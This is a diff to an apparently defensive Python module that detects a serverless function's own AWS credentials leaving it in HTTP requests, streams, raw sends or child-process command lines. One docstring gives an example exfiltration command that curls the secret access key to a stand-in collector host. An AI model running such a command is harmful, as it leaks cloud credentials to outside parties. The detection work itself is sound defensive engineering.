@@ -68,11 +68,12 @@ DEFAULT_EXTENSION_PORT = 2773
 _LOOPBACK_NAMES = frozenset({"localhost", "localhost.localdomain", "ip6-localhost", "::1", "0:0:0:0:0:0:0:1"})
 
 
-class Payload(namedtuple("Payload", "parts outbound host port", defaults=(False, "", None))):
+class Payload(namedtuple("Payload", "parts outbound host port stream", defaults=(False, "", None, False))):
     """What is about to leave: ``parts``, named pieces of text or bytes (``(name, content)``, or
     ``(name, text, "base64")`` for a base64 body, judged on what it decodes to); ``outbound``
     True for an HTTP request the function sends (else the handler's response); ``host`` and
-    ``port`` that request's destination."""
+    ``port`` that request's destination; ``stream`` True when the parts are the end of a stream
+    still being sent (a credential cut at their end may be whole once its next piece comes)."""
 
     __slots__ = ()
 
@@ -293,18 +294,32 @@ def _occurrences(text: str, secret: _Secret) -> list[tuple[str, int]]:
     return hits
 
 
-def _split(text: str, secret: _Secret) -> bool:
+def _split(text: str, secret: _Secret, stream: bool = False) -> bool:
     """Whether a half of the secret occurs other than inside a whole form of it (split across fields).
 
     Whether an occurrence of a half lies inside a whole form is read at that place (the forms the
     half occurs in, at their offsets), so every occurrence is looked at, however many there are.
+    In a ``stream``, a form that runs past the end of the text (its next piece is still to come)
+    or began before its start (the piece kept from before was cut) is not a split: the send that
+    completes it finds it whole.
     """
     for half, within in secret.halves:
         index = text.find(half)
         while index != -1:
-            if not any(index >= offset and text.startswith(form, index - offset) for form, offset in within):
+            if not any(index >= offset and text.startswith(form, index - offset) for form, offset in within) and \
+                    not (stream and _cut_at_an_end(text, index, within)):
                 return True
             index = text.find(half, index + 1)
+    return False
+
+
+def _cut_at_an_end(text: str, index: int, within: tuple[tuple[str, int], ...]) -> bool:
+    for form, offset in within:
+        start = index - offset
+        end = start + len(form)
+        if (start >= 0 and end > len(text) and form.startswith(text[start:])) or (
+                start < 0 and end <= len(text) and form.endswith(text[:end])):
+            return True
     return False
 
 
@@ -345,7 +360,7 @@ def _inflated(text: str) -> str | None:
         return None
 
 
-def scan(parts: tuple, extension: bool = False) -> list[tuple[str, str, str, bool]]:
+def scan(parts: tuple, extension: bool = False, stream: bool = False) -> list[tuple[str, str, str, bool]]:
     """(secret name, part name, form name, in a legitimate position) of every own credential found.
 
     ``extension``: the request goes to the local secrets extension, whose token headers are
@@ -379,7 +394,7 @@ def scan(parts: tuple, extension: bool = False) -> list[tuple[str, str, str, boo
                         signed = secret.sigv4 and form_name == "base64-encoded" and _signed_blob(text, index, secret)
                         found.append((secret.name, part_name, form_name, signed))
                         break
-            if secret.halves and _split(text, secret):
+            if secret.halves and _split(text, secret, stream):
                 found.append((secret.name, part_name, "split", False))
             if secret.anchor and secret.anchor not in text:
                 continue  # the substring searches a clean part costs: the encodings, the halves, the anchor
@@ -391,6 +406,131 @@ def scan(parts: tuple, extension: bool = False) -> list[tuple[str, str, str, boo
     return found
 
 
+# ---------------------------------------------------------------- the cheap look at raw bytes
+
+_ZLIB_HEADERS = frozenset(bytes((0x78, second)) for second in range(256) if (0x78 * 256 + second) % 31 == 0)
+
+
+MAX_NEEDLE = 40  # bytes: longer needles fall to CPython's slower search paths (two-way, saturated skip filter)
+MIN_CASELESS_HEX = 12
+
+
+def _middle(text: str) -> bytes:
+    """A slice of ``text`` at most MAX_NEEDLE long: what every occurrence of ``text`` holds too."""
+    start = max(0, (len(text) - MAX_NEEDLE) // 2)
+    return text[start:start + MAX_NEEDLE].encode("utf-8", "surrogatepass")
+
+
+def _caseless_hex(encoded: str) -> str | None:
+    """The longest run of decimal digits in a hex form: the same in upper- and lower-case hex."""
+    best = max("".join(ch if ch.isdigit() else " " for ch in encoded).split() or [""], key=len)
+    return best if len(best) >= MIN_CASELESS_HEX else None
+
+
+def _safe_run(text: str) -> str:
+    """The longest run of ``text`` that percent-encoding and JSON escaping leave alone."""
+    best, run = "", []
+    for ch in text + "/":
+        if ch.isalnum() or ch in "-_.~":
+            run.append(ch)
+            continue
+        if len(run) > len(best):
+            best = "".join(run)
+        run = []
+    return best
+
+
+@lru_cache(maxsize=4)
+def _byte_needles(secrets: tuple[_Secret, ...]) -> tuple[tuple[bytes, ...], int]:
+    """The substrings one of which every recognised form of a credential holds, as bytes, and the
+    length of the longest form (what a stream must keep of its past to see a form split across sends).
+
+    Per credential: in each of its two halves, a run that percent-encoding and JSON escaping keep
+    (a whole plain, percent-encoded or JSON-escaped form holds both; a value split in two leaves one
+    half, so one of them, whole), or its anchor where a half has no such run of MIN_ANCHOR
+    characters; a slice of each encoding's needle (hex, one needle for both cases where its hex has
+    a run of 12 digits, as almost every key's has; reversed; base64 at each alignment). Seven per
+    credential as a rule, each at most MAX_NEEDLE bytes long: a needle as long as a 1,000-character
+    token took 90 µs to search 64 KB, one of 40 bytes 5-8 µs.
+    """
+    needles: dict[bytes, None] = {}
+    longest = 0
+    for secret in secrets:
+        value = secret.forms[0][1]
+        runs = [_safe_run(half) for half, _ in secret.halves]
+        if len(runs) == 2 and all(len(run) >= MIN_ANCHOR for run in runs):
+            for run in runs:
+                needles[_middle(run)] = None
+        else:
+            needles[_middle(secret.anchor or value)] = None
+            for half, _ in secret.halves:
+                needles[_middle(half)] = None
+        caseless = None
+        for name, needle, forms in secret.encoded:
+            longest = max(longest, *map(len, forms))
+            if name == "hex-encoded":
+                caseless = caseless or _caseless_hex(needle)
+                if caseless:
+                    needles[_middle(caseless)] = None
+                    continue
+            needles[_middle(needle)] = None
+        longest = max(longest, *(len(form) for _, form in secret.forms))
+    return tuple(needles), longest
+
+
+_raw_memo: tuple = (None, None)
+
+
+def raw_needles() -> tuple[tuple[bytes, ...], int] | None:
+    """``_byte_needles`` of the function's credentials as they are now; None when it has none.
+
+    Remembered by the identity of ``own_secrets()``'s answer: the cache of ``_byte_needles`` hashes
+    its argument, a tuple of tuples that holds the token in its forms (2 µs a call)."""
+    global _raw_memo
+    secrets = own_secrets()
+    if not secrets:
+        return None
+    if _raw_memo[0] is not secrets:
+        _raw_memo = (secrets, _byte_needles(secrets))
+    return _raw_memo[1]
+
+
+def may_hold(data: bytes | bytearray, compressed: bool = True) -> bool:
+    """Whether ``data`` may hold one of the function's credentials in a form ``scan`` recognises.
+
+    Substring searches in C only, one per needle (``_byte_needles``), and a look at the first two
+    bytes for compressed data (``compressed``; not for a piece cut out of the middle of a stream):
+    what a raw socket send costs when it holds none (``sinks.sends``).
+    """
+    needles = raw_needles()
+    if needles is None:
+        return False
+    if compressed and (data[:2] == b"\x1f\x8b" or bytes(data[:2]) in _ZLIB_HEADERS):
+        return True
+    return any(map(data.__contains__, needles[0]))
+
+
+class Command(namedtuple("Command", "text program")):
+    """A child process about to start: ``text`` its command line (arguments joined by spaces, shell
+    variables the shell would expand from the child's environment already put in), ``program`` its name."""
+
+    __slots__ = ()
+
+
+def _detect_command(command: Command) -> Finding | None:
+    """The secret key or the session token on a child's command line: the child holds it to send it
+    (``curl -d "$AWS_SECRET_ACCESS_KEY" https://collector``); SigV4 positions do not exempt the token here,
+    since a command that signs requests never needs it on its command line."""
+    found = scan((("command line", command.text),))
+    if not found:
+        return None
+    names = sorted({name for name, *_ in found})
+    places = sorted({f"{part} ({form})" if form != "as is" else part for _, part, form, _ in found})
+    return Finding(AttackKind.CREDENTIAL_EXFILTRATION, "credential_exfiltration.child",
+                   f"the function's own {' and '.join(names)} on the command line of a child process "
+                   f"({command.program})", None, f"{', '.join(names)} found in {', '.join(places)}; values withheld")
+
+
 def _key_id_present(parts: tuple) -> bool:
     key_id = os.environ.get(KEY_ID, "")
     if len(key_id) < MIN_SECRET_LENGTH:
@@ -398,13 +538,16 @@ def _key_id_present(parts: tuple) -> bool:
     return any(content and not encoding and key_id in _as_text(content) for _, content, *encoding in parts)
 
 
-def detect(payload: Payload, inputs: Inputs | None, options: Mapping[str, Any]) -> Finding | None:
+def detect(payload: Payload | Command, inputs: Inputs | None, options: Mapping[str, Any]) -> Finding | None:
     """``inputs`` are not used: the sinks call this without making the invocation flatten its event."""
+    if isinstance(payload, Command):
+        return _detect_command(payload) if options.get("outbound", True) else None
     if payload.outbound and (not options.get("outbound", True) or is_aws_endpoint(payload.host)):
         return None
-    found = scan(payload.parts)
+    found = scan(payload.parts, stream=payload.stream)
     if found and payload.outbound and is_local_secrets_extension(payload.host, payload.port):
-        found = scan(payload.parts, extension=True)  # a request that holds a credential: the rare case pays
+        # a request that holds a credential: the rare case pays
+        found = scan(payload.parts, extension=True, stream=payload.stream)
     if not found:
         return None
     secret_key_found = any(name == SECRET_KEY for name, *_ in found)
